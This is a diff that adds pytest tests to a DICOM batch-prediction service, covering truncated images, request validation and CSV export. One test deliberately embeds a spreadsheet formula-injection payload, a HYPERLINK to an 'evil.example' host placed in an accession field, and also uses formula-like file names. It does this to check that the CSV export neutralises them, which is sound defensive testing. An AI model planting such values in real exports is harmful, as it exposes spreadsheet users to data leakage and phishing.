@@ -5,12 +5,14 @@ from __future__ import annotations
 import csv
 import io
 import json
+import warnings
 import zipfile
 from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
 import pytest
+from dicom_factory import CR_STORAGE, GSPS_STORAGE, build_dataset, dx_bytes, to_bytes
 from fastapi.testclient import TestClient
 from service_fixtures import (
     EXPECTED_EXPORT,
@@ -253,3 +255,129 @@ def test_batch_job_survives_graceful_shutdown(
     status = wait_for_job(second, job_id)
     assert status["state"] == "done" and status["pending"] == 0
     _check_every_file_once(_results(second, job_id))
+
+
+# --- a truncated image fails; the results CSV runs no formula; the request is strict ------
+
+
+def _zip_of(members: dict[str, bytes]) -> bytes:
+    buffer = io.BytesIO()
+    with zipfile.ZipFile(buffer, "w") as zf:
+        for name, data in members.items():
+            zf.writestr(name, data)
+    return buffer.getvalue()
+
+
+def _finished_zip_job(client: TestClient, members: dict[str, bytes]) -> tuple[str, dict[str, Any]]:
+    response = client.post("/v1/batches", files={"file": ("x.zip", _zip_of(members))})
+    assert response.status_code == 202, response.text
+    job_id = response.json()["id"]
+    status = wait_for_job(client, job_id)
+    assert status["state"] == "done", status
+    return job_id, status
+
+
+def test_batch_image_cut_before_its_pixel_data_is_failed_not_skipped(
+    make_client: Callable[..., TestClient],
+) -> None:
+    cr = dx_bytes(modality="CR", sop_class=CR_STORAGE)
+    gsps = to_bytes(build_dataset(modality="PR", sop_class=GSPS_STORAGE))
+    client = make_client()
+    # The same bytes to POST /v1/images/predict are a 422 (truncated).
+    truncated = cr[: cr.find(b"\xe0\x7f\x10\x00")]
+    predicted = client.post("/v1/images/predict", files={"file": ("cut.dcm", truncated)})
+    assert predicted.status_code == 422, predicted.text
+    job_id, status = _finished_zip_job(
+        client, {"cut.dcm": truncated, "short.dcm": cr[:600], "ps.dcm": gsps, "ok.dcm": cr}
+    )
+    assert (status["done"], status["skipped"], status["failed"]) == (1, 1, 2)
+    by_path = {line["path"]: line for line in _results(client, job_id)}
+    for key in ("cut.dcm", "short.dcm"):
+        assert by_path[key]["state"] == "failed", by_path[key]
+        assert by_path[key]["error"].startswith("truncated: no pixel data"), by_path[key]
+    assert by_path["ps.dcm"]["state"] == "skipped"
+    assert by_path["ps.dcm"]["reason"] == f"no pixel data (SOP Class {GSPS_STORAGE})"
+
+
+def test_batch_results_csv_neutralises_formulas_and_keeps_numbers(
+    make_client: Callable[..., TestClient],
+) -> None:
+    link = '=HYPERLINK("http://evil.example/?x","open")'
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore", UserWarning)  # longer than SH's 16 characters
+        hostile = dx_bytes(accession=link)
+    client = make_client()
+    job_id, _ = _finished_zip_job(
+        client, {"=1+2.dcm": dx_bytes(), "-3.dcm": hostile, "@SUM(A1).dcm": b"not DICOM"}
+    )
+    table = client.get(f"/v1/batches/{job_id}/results", params={"format": "csv"})
+    rows = {row["path"]: row for row in csv.DictReader(io.StringIO(table.text))}
+    assert sorted(rows) == ["'-3.dcm", "'=1+2.dcm", "'@SUM(A1).dcm"]
+    assert rows["'-3.dcm"]["accession_number"] == "'" + link
+    assert rows["'@SUM(A1).dcm"]["error"].startswith("'@SUM(A1).dcm: ")
+    for row in (rows["'=1+2.dcm"], rows["'-3.dcm"]):
+        assert row["state"] == "done" and 0 <= float(row["prob_Effusion"]) <= 1
+    # JSON Lines is no spreadsheet: its values are kept as they are.
+    by_path = {line["path"]: line for line in _results(client, job_id)}
+    assert by_path["-3.dcm"]["accession_number"] == link
+
+
+def test_batch_request_with_an_unknown_key_is_refused(
+    make_client: Callable[..., TestClient], export_root: Path
+) -> None:
+    client = make_client(batch_roots=[export_root], run_batch_jobs=False)
+    for body in (
+        {"path": "export1", "report": "reports.csv"},
+        {"path": "export1", "dicomweb": None, "extra": 1},
+        {"dicomweb": {"since": "2024-05-01", "pushh": ["sr"]}},
+    ):
+        response = client.post("/v1/batches", json=body)
+        assert response.status_code == 422, (body, response.text)
+        assert "extra_forbidden" in [e["type"] for e in response.json()["detail"]]
+    assert client.get("/v1/batches").json() == []
+
+
+@pytest.mark.parametrize(
+    ("body", "message"),
+    [
+        ({}, "no source: give `path`"),
+        ({"reports": "reports.csv"}, "no source: give `path`"),
+        ({"path": "export1", "dicomweb": {}}, "two sources"),
+    ],
+)
+def test_batch_request_says_whether_no_source_or_two_were_given(
+    make_client: Callable[..., TestClient], export_root: Path, body: dict[str, Any], message: str
+) -> None:
+    client = make_client(batch_roots=[export_root], run_batch_jobs=False)
+    response = client.post("/v1/batches", json=body)
+    assert response.status_code == 422, response.text
+    (error,) = response.json()["detail"]
+    assert message in error["msg"]
+
+
+@pytest.mark.parametrize("field", ["path", "reports"])
+def test_batch_request_with_an_empty_path_is_refused(
+    make_client: Callable[..., TestClient], export_root: Path, field: str
+) -> None:
+    client = make_client(batch_roots=[export_root], run_batch_jobs=False)
+    body = {"path": "export1", "reports": "reports.csv", field: ""}
+    response = client.post("/v1/batches", json=body)
+    assert response.status_code == 422, response.text
+    (error,) = response.json()["detail"]
+    assert error["loc"] == ["body", field] and error["type"] == "string_too_short"
+
+
+def test_batch_validation_error_has_the_shape_of_every_other_route(
+    make_client: Callable[..., TestClient], export_root: Path
+) -> None:
+    client = make_client(batch_roots=[export_root], run_batch_jobs=False)
+    batch = client.post("/v1/batches", json={"path": 7}).json()
+    report = client.post("/v1/reports/label", json={"text": 7}).json()
+    assert batch["error"] == report["error"] == "RequestValidationError"
+    for body in (batch, report):
+        assert isinstance(body["detail"], list) and body["detail"]
+        assert all(set(e) == {"loc", "msg", "type"} for e in body["detail"])
+        assert all(e["loc"][0] == "body" for e in body["detail"])
+    assert batch["detail"] == [
+        {"loc": ["body", "path"], "msg": "Input should be a valid string", "type": "string_type"}
+    ]
